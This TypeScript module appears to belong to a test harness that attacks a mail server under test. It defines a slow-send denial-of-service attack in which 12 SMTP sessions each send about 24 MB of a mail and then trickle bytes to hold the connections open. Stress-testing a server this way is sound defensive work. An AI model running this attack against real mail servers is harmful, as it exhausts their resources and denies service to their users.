import { setTimeout as delay } from 'node:timers/promises';
import { attackerAddress } from '../addresses.ts';
import type { Attack } from '../attack.ts';
import { createMailbox } from '../attacked-mailbox.ts';
import { HeldSockets } from '../held-sockets.ts';

const sessions = 12;
const halfBytes = 24 * 1024 * 1024;
const trickleBytes = 1_000;
const trickleMs = 1_000;

/** Sessions of one address that send most of a big mail, and then just enough to be let be. */
export const halfSentMail: Attack = {
  id: '7a',
  name: '12 big half-sent mails of one address',
  seconds: 25,
  prepare: async (target) => {
    const { address } = await createMailbox(target);
    const commands = `MAIL FROM:<attacker@client.siege>\r\nRCPT TO:<${address}>\r\nDATA\r\n`;
    const line = `${'x'.repeat(998)}\r\n`;
    const half = Buffer.from(line.repeat(halfBytes / line.length));
    return async (over) => {
      const sockets = new HeldSockets();
      const localAddress = () => attackerAddress();
      await sockets.open({ port: target.smtpPort, count: sessions, localAddress });
      for (const text of ['EHLO client.siege\r\n', commands, half]) {
        await delay(trickleMs);
        sockets.write(text);
      }
      while (!over.aborted) {
        await delay(trickleMs, undefined, { signal: over }).catch(() => {});
        sockets.write(line.slice(-trickleBytes));
      }
      return `${sockets.alive} of ${sessions} held`;
    };
  },
};
